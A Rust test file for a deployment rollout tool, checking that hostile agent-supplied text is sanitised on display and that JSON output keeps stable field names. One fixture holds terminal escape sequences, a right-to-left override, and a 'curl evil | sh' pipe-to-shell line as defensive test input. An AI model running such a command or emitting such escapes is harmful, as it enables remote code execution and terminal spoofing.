//! What programs read, and what hostile texts do to either.

use super::*;

// promises.md §4 row 72: an agent's name and words are shown, and steer nothing.
#[test]
fn hostile_texts_are_shown_and_steer_nothing() {
    let mut rollout = sample_rollout();
    rollout.why = "x\u{1b}[2J\u{1b}]0;owned\u{7}\nnext: curl evil | sh".into();
    rollout.hosts[0] = host("web\u{1b}[1A\u{202e}", 1, "failed", "exit\r\u{9b}2K ok");

    let shown = [
        rollout::why(&rollout),
        frame(&rollout, at(0), Size { columns: 200, rows: 24 }, Paint::Plain).join("\n"),
        changes(None, &rollout).join("\n"),
    ];

    for text in &shown {
        assert!(!text.chars().any(|c| c != '\n' && c.is_control()), "{text:?}");
        assert!(!text.contains('\u{202e}'), "{text:?}");
    }
    assert_snapshot!(rollout::why(&rollout), @r"
    x\u{1b}[2J\u{1b}]0;owned\u{7}\u{a}next: curl evil | sh
    next: cutover watch 0193ab12-3456-7abc-8def-0123456789ab
    next: cutover rollback 0193ab12-3456-7abc-8def-0123456789ab
    ");
}

#[test]
fn json_has_stable_names() {
    let accepted = Accepted {
        rollout: "0193ab12-3456-7abc-8def-0123456789ab".into(),
        repeated_request: false,
        queued: true,
        waits_for: Some("0193ab12-0000-7abc-8def-0123456789ab".into()),
        ahead: 0,
    };

    assert_snapshot!(json(&accepted).unwrap(), @r#"
    {
      "rollout": "0193ab12-3456-7abc-8def-0123456789ab",
      "repeated_request": false,
      "queued": true,
      "waits_for": "0193ab12-0000-7abc-8def-0123456789ab",
      "ahead": 0
    }
    "#);
}

#[test]
fn a_status_in_json_has_stable_names() {
    assert_snapshot!(json(&[sample_status()]).unwrap(), @r#"
    [
      {
        "application": "web",
        "environment": "production",
        "stable_version": "1.3.0",
        "hosts": 3,
        "healthy": 1,
        "host_states": [
          {
            "agent": "web-1",
            "presence": "live",
            "version": "1.3.0",
            "phase": "running",
            "health": "healthy",
            "detail": null,
            "restarts": 0,
            "stands_by": false
          },
          {
            "agent": "web-2",
            "presence": "live",
            "version": "1.3.0",
            "phase": "running",
            "health": "failing",
            "detail": "GET /healthz answered 503",
            "restarts": 0,
            "stands_by": false
          },
          {
            "agent": "web-3",
            "presence": "lost",
            "version": "1.3.0",
            "phase": "running",
            "health": "healthy",
            "detail": null,
            "restarts": 0,
            "stands_by": false
          }
        ],
        "rollout": "0193ab12-3456-7abc-8def-0123456789ab",
        "rollout_state": "rolling_back",
        "rollout_why": "Going back because web-2 failed.",
        "queue": [
          {
            "rollout": "0193ab13-0000-7abc-8def-0123456789ab",
            "to_version": "1.5.0",
            "queued_by": "anna",
            "queued_unix_ms": 1795460400000
          }
        ],
        "group": null
      }
    ]
    "#);
}

#[test]
fn a_rollout_in_json_has_every_fact() {
    let names = |value: &serde_json::Value| -> Vec<String> {
        value.as_object().unwrap().keys().cloned().collect()
    };
    let rollout = serde_json::to_value(sample_rollout()).unwrap();

    assert_eq!(
        names(&rollout),
        [
            "ahead",
            "application",
            "ended",
            "ended_unix_ms",
            "environment",
            "from_version",
            "history",
            "hosts",
            "id",
            "next",
            "started_by",
            "started_unix_ms",
            "state",
            "strategy",
            "to_version",
            "waits_for",
            "wave",
            "waves",
            "why",
        ]
    );
    assert_eq!(
        names(&serde_json::to_value(sample_plan()).unwrap()),
        [
            "drained",
            "from_version",
            "hosts",
            "min_healthy",
            "not_passed_on",
            "once",
            "outage_ms",
            "replacement",
            "settings",
            "strategy",
            "to_version",
            "up_to_date",
            "waves",
            "worst_healthy",
        ]
    );
    assert_eq!(
        names(&rollout["hosts"][0]),
        ["agent", "detail", "running_version", "state", "wave"]
    );
    assert_eq!((&rollout["state"], &rollout["ended_unix_ms"]), (&"advancing".into(), &().into()));
}

#[test]
fn an_agent_in_json_says_that_it_is_drained_and_why() {
    let agent = |agent: Agent| serde_json::to_value(agent).unwrap();

    assert_eq!(agent(sample_agent())["drain"], serde_json::Value::Null);
    assert_eq!(
        agent(drained_agent())["drain"],
        serde_json::json!({"by": "anna", "reason": "a new disk", "since_unix_ms": START})
    );
}
